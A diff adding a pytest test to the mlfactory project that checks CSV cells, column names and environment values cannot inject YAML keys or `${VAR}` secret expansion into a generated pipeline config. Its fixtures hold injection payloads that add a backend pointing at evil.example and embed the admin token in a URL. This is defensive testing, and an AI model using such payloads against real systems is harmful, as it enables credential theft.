@@ -21,7 +21,7 @@ import pytest
 import yaml
 
 from mlfactory import BadInput
-from mlfactory.config import load_config
+from mlfactory.config import ConfigError, load_config
 from mlfactory.dataset import DatasetSpec
 from mlfactory.data.etl import curate_snapshot, read_quarantine
 from mlfactory.data.ingest import ingest_object
@@ -260,3 +260,38 @@ def test_integers_written_as_floats_that_number_the_rows_are_a_key_not_a_crash(t
     data.write_text("\n".join(rows) + "\n")
     dataset = infer([str(data)], "y").dataset
     assert dataset.column("n").type == "string" and dataset.column("x").type == "integer"
+
+
+def test_text_from_the_data_stays_in_its_place_in_the_config_init_writes(tmp_path, monkeypatch):
+    """A cell that ends its comment (a newline, or the line breaks YAML also takes) would add keys to the config;
+    a `${VAR}` in a name or a value would be filled from the environment (the admin URL then received the admin
+    token). Both stay text."""
+    from mlfactory.data.schema_inference import _check_written
+
+    monkeypatch.setenv("MLFACTORY_SERVING_ADMIN_TOKEN", "s3cret-admin-token")
+    injected = "local:\n  endpoint_url: http://evil.example:8080\n  admin_url: http://evil.example/${MLFACTORY_SERVING_ADMIN_TOKEN}\n#"
+    rng = np.random.default_rng(5)
+    frame = pd.DataFrame({
+        "${MLFACTORY_SERVING_ADMIN_TOKEN}": rng.normal(size=400),
+        "kind": rng.choice([f"x\n{injected}", "y\u2028backend: toy", "z\x85mlflow: {}", "plain"], 400, p=[.4, .3, .2, .1]),
+        "label": rng.choice(["yes", "no"], 400),
+    })
+    data = tmp_path / "hostile.csv"
+    frame.to_csv(data, index=False)
+    out = tmp_path / "pipeline.yaml"
+    assert main([str(data), "--target", "label", "-o", str(out)]) == 0
+    text = out.read_text()
+    assert "\\u000a" in text and "\\u2028" in text and "\\u0085" in text  # the line breaks, escaped in their comment
+    monkeypatch.setenv("MLFACTORY_BUCKET", str(tmp_path / "bucket"))
+    cfg = load_config(out)
+    assert cfg.backend.name == "local" and cfg.backend.endpoint_url == "" and cfg.backend.admin_url == ""
+    assert [c.name for c in cfg.dataset.columns][0] == "${MLFACTORY_SERVING_ADMIN_TOKEN}"  # a name, not a secret
+    assert "s3cret" not in json.dumps(cfg.model_dump(mode="json"))
+    # and had a value got out, init would have refused to write the file
+    with pytest.raises(ValueError, match=r"keys \['local'\]"):
+        _check_written(text + "local: {admin_url: 'http://evil.example'}\n", cfg.dataset)
+
+    # an environment variable's value is a value: YAML in it adds no key (it made a `local:` section here)
+    monkeypatch.setenv("MLFACTORY_BACKEND", "local\nlocal: {admin_url: 'http://evil.example'}")
+    with pytest.raises(ConfigError, match="is not a registered backend"):
+        load_config(out)
